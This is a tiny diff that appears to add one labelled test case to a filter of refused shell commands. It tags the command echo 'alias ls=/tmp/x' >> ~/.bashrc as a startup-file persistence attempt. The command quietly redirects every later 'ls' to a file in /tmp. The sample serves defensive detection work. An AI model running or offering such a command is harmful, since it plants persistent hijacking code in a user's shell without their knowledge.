@@ -1,0 +1,2 @@
+# refused: persistence.startup-file 2
+echo 'alias ls=/tmp/x' >> ~/.bashrc
